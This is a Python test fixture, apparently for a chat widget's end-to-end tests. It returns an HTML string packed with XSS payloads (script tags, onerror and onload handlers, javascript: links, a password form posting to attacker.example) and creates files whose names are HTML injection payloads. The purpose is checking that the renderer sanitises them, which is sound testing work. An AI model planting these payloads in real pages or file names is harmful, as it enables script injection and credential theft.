"""Answers with every kind of part the widget draws, picked by the message: ``image``,
``gallery``, ``html`` (with script payloads), ``files`` (names that are HTML payloads), ``many``
(several messages in one turn, text last). Anything else is echoed as text."""

from __future__ import annotations

import functools
import os
import tempfile
from pathlib import Path
from typing import Any

import backend as gr

MEDIA = Path(__file__).parent / "media"
CHECKER = str(MEDIA / "checker.png")
HTML = (
    "<p>Safe <b>bold</b> HTML</p>"
    "<script>alert(1)</script>"
    "<img src=x onerror=alert(1)>"
    '<a href="javascript:alert(1)">bad link</a>'
    '<iframe src="javascript:alert(1)"></iframe>'
    "<style>*{display:none}</style>"
    '<div style="position:fixed;inset:0">styled</div>'
    "<svg onload=alert(1)></svg>"
    '<form action="https://attacker.example"><input type=password></form>'
)
NAMES = ['"><img src=x onerror=alert(1)>.txt', "<svg onload=alert(1)>.txt"]


@functools.cache
def hostile_files() -> list[str]:
    """Files with the hostile names, made once per server process on first use, in a folder of
    its own in the temp dir (the tests point it at theirs; importing this module for its
    constants makes nothing)."""
    folder = Path(tempfile.mkdtemp(prefix="media-bot-"))
    for name in NAMES:
        (folder / name).write_text("hostile name\n")
    return [str(folder / name) for name in NAMES]


def respond(message: str, history: list[dict[str, Any]]) -> Any:
    if message == "image":
        return gr.Image(CHECKER, alt_text="A checkerboard")
    if message == "gallery":
        return gr.Gallery([(CHECKER, "First square"), (CHECKER, "Second square")])
    if message == "html":
        return gr.HTML(HTML)
    if message == "files":
        return [gr.File(path) for path in hostile_files()]
    if message == "many":
        return ["Here is a picture:", gr.Image(CHECKER, alt_text="A checkerboard"), "The end."]
    return f"You said: {message} ({len(history)} earlier)"


demo = gr.ChatInterface(
    fn=respond,
    type="messages",
    flagging_mode="manual",
    flagging_dir=os.environ.get("E2E_FLAG_DIR", ".gradio/flagged"),
    chatbot=gr.Chatbot(buttons=["copy"]),
)
